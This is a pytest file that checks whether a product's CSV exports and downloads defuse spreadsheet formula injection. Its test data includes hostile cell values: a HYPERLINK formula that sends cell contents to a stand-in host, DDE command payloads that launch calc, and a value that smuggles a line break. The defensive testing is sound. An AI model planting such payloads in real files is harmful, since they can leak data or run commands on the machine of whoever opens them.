"""Issue 17, D3: no CSV the product writes can attack the spreadsheet that opens it. An image named
``=HYPERLINK(…)`` in a ZIP, a user named ``@SUM(…)``, a value read as ``+cmd|…``: each is written as text
(a single quote in front, OWASP's advice), in the QA reports (CLI and the lab's download), the Audit
page's export and the analysis pages' download — read back here with the csv module, as a spreadsheet
would split them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from ocr_core.csv_cells import FORMULA_STARTS, safe_cell
from qa import analysis, report
from qa.runner import RunSpec, Source, create_run
from tests.support.apptest import assert_clean

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize(
    "value, written",
    [
        *[(v, "'" + v) for v in HOSTILE],
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        (-1, -1),
        (-0.5, -0.5),
        (0.25, 0.25),
        (True, True),
        (None, None),
        ("plain.png", "plain.png"),
        ("", ""),
        ("-", "'-"),
        ("-inf", "'-inf"),
        (float("-inf"), "'-inf"),
        ("-1-1", "'-1-1"),
        ("'=already", "'=already"),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: they start with one of the characters (a number aside)."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> tuple[Any, int, str]:
    """A run whose images carry the hostile names; their bytes are no image, so every item fails
    locally and nothing is sent."""
    from store import session_factory

    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'qa.db'}"
    factory = session_factory(url)
    from qa.spool import Spool

    spool = Spool(factory)
    rid = create_run(
        factory,
        RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
        [Source(name, b"not an image") for name in HOSTILE],
        spool,
    )
    return factory, rid, url


def test_the_qa_csv_report_writes_hostile_names_as_text(hostile_run):
    factory, rid, _ = hostile_run
    text = report.csv_report(analysis.load_run(factory, rid))
    assert _formula_cells(text) == []
    images = [row["image"] for row in csv.DictReader(io.StringIO(text))]
    assert images == ["'" + name for name in HOSTILE]


def test_qa_report_csv_on_the_command_line(hostile_run, tmp_path):
    from qa.cli import main

    _, rid, url = hostile_run
    target = tmp_path / "r.csv"
    assert (
        main(["report", str(rid), "--csv", str(target), "--db", url], out=io.StringIO(), err=io.StringIO())
        == 0
    )
    assert _formula_cells(target.read_text("utf-8")) == []


@pytest.fixture
def downloads(monkeypatch) -> Iterator[list[tuple[bytes, str | None]]]:
    """Every file a page hands to a download button (what the browser would save), as it is stored."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    kept: list[tuple[bytes, str | None]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, (bytes, str)):
            kept.append((path_or_data.encode() if isinstance(path_or_data, str) else path_or_data, filename))
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    yield kept


@pytest.mark.usefixtures("sandbox")
def test_the_qa_labs_csv_download_writes_hostile_names_as_text(downloads):
    from tests.support.people import open_as
    from ui import lab

    factory = lab.factory()
    from qa.tasks import spool

    rid = create_run(
        factory,
        RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
        [Source(name, b"not an image") for name in HOSTILE],
        spool(),
    )
    at = open_as("admin", "pages/runs.py")
    at.selectbox(key="runs_pick").set_value(rid).run()
    assert_clean(at)
    csvs = [data.decode("utf-8") for data, name in downloads if name == f"qa-run-{rid}.csv"]
    assert csvs and all(_formula_cells(text) == [] for text in csvs)
    assert "'=HYPERLINK(" in csvs[-1]


@pytest.mark.usefixtures("sandbox")
def test_the_audit_pages_csv_export_writes_hostile_users_and_doors_as_text(downloads):
    from access.audit import AuditEvent
    from tests.support.people import open_as
    from ui.billing import ledger

    ledger().append(
        AuditEvent(
            kind="api_call",
            user=HOSTILE[0],
            role="",
            where=HOSTILE[1],
            backend="cloud",
            service="credit-card",
            result_code=-1,
            latency_ms=-0.5,
        )
    )
    at = open_as("admin", "pages/audit.py")
    assert_clean(at)
    csvs = [data.decode("utf-8") for data, name in downloads if name and name.startswith("audit-")]
    assert csvs
    rows = list(csv.DictReader(io.StringIO(csvs[-1])))
    mine = next(r for r in rows if r["user"] == "'" + HOSTILE[0])
    assert mine["where"] == "'" + HOSTILE[1] and mine["result_code"] == "-1" and mine["latency_ms"] == "-0.5"
    assert _formula_cells(csvs[-1]) == []


def test_the_analysis_pages_csv_download_writes_a_hostile_value_as_text():
    from ui.rows import FieldRow, rows_csv

    rows = [FieldRow("name", None, "=cmd|' /C calc'!A0", "=1+2", "+SUM(1)", 0.5, None, False)]
    text = rows_csv(rows, {"endpoint": 'http://x\r\n=HYPERLINK("http://evil.test"),=1+1', "masked": True})
    assert _formula_cells(text) == []  # no metadata line broken into a new row or a cell of its own
    assert [ln for ln in text.splitlines() if ln.startswith("=")] == [] and "# masked: True\r\n" in text
    assert "'=cmd|" in text and "'+SUM(1)" in text  # the label and the value shown
